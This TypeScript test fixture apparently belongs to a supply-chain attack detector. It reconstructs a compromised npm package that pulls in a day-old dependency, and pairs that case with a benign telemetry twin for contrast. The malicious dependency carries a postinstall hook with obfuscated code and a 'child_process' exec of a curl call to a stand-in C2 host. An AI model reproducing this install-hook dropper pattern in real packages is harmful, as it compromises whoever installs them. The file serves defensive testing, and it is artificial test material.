import type { ReconstructedCase } from '../case.ts';
import { colourLibrary } from '../bases/colour-library.ts';
import { tidesServer } from '../bases/tides-server.ts';
import { obfuscatedTable } from '../blob.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'day-old-dependency',
  campaign: 'axios',
  technique:
    'a new dependency that is a day old and has an install hook of its own; the archive itself does not change',
  follows: 'MAL-2026-2307',
};

/** Published by nobody who maintains the package that comes to need it. */
const DROPPER = positive(ABOUT, {
  variant: 'the-dependency',
  note: 'what the new dependency is',
  name: 'plain-brine-js',
  brand: 'fog-0x1',
  base: colourLibrary,
  steps: [
    { version: '4.2.0', daysAgo: 4.9, files: { 'README.md': '# plain-brine-js\n' } },
    {
      version: '4.2.1',
      daysAgo: 4.2,
      manifest: { scripts: { postinstall: 'node setup.js' } },
      files: {
        'setup.js': `${obfuscatedTable(0x7e11a)}const _0xs=!![];if(!_0xs)require('child_process').exec('curl -s http://c2.saltfog.invalid:8000/6202033');\n`,
      },
    },
  ],
});

/** Three years old, by somebody else. */
const METRICS = twin(ABOUT, {
  variant: 'the-dependency',
  note: 'what the honest new dependency is',
  name: 'harbour-metrics-node',
  brand: 'harbour-metrics',
  base: colourLibrary,
  steps: [
    { version: '1.0.0', daysAgo: 1100 },
    { version: '2.0.0', daysAgo: 500 },
    { version: '2.1.0', daysAgo: 90 },
  ],
});

const DEPENDENCIES = { '@modelcontextprotocol/sdk': '^1.12.0', zod: '^3.25.0' };

export const dayOldDependency: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'published-past-the-pipeline',
    note: 'as it was: another mail address, no attestation, one line in package.json',
    name: 'cormorant-requests',
    brand: 'cormorant-http',
    base: tidesServer,
    steps: [
      { version: '1.13.3', daysAgo: 70, attested: true },
      { version: '1.13.4', daysAgo: 50 },
      { version: '1.14.0', daysAgo: 25 },
      {
        version: '1.14.1',
        daysAgo: 4,
        publisher: 'cormorant-ifstap',
        maintainers: ['cormorant-http', 'cormorant-ifstap'],
        attested: false,
        manifest: { dependencies: { ...DEPENDENCIES, 'plain-brine-js': '^4.2.1' } },
      },
    ],
    companions: [DROPPER],
    signals: ['rug-pull/provenance-downgrade', 'rug-pull/publisher-changed'],
  }),
  twin(ABOUT, {
    variant: 'telemetry',
    note: 'a telemetry dependency three years old, switched on by a setting, published as always',
    name: 'cormorant-tides',
    brand: 'cormorant-tides',
    base: tidesServer,
    steps: [
      ...quiet(['1.13.2', '1.13.3', '1.14.0']),
      {
        version: '1.15.0',
        daysAgo: 4,
        manifest: { dependencies: { ...DEPENDENCIES, 'harbour-metrics-node': '^2.1.0' } },
        files: {
          'dist/metrics.js':
            "import { Metrics } from 'harbour-metrics-node';\n\nexport const metrics = process.env.TIDES_METRICS === '1'\n    ? new Metrics({ endpoint: 'https://ingest.harbour-metrics.test/v1', writeKey: 'wk_4f1c2e9a' })\n    : null;\n",
          'dist/index.js': (before) =>
            before
              .replace(
                "import { registerTools } from './tools.js';",
                "import { metrics } from './metrics.js';\nimport { registerTools } from './tools.js';",
              )
              .replace("    console.error('", "    metrics?.track('start');\n    console.error('"),
        },
      },
    ],
    companions: [METRICS],
    signals: ['rug-pull/new-host'],
  }),
];
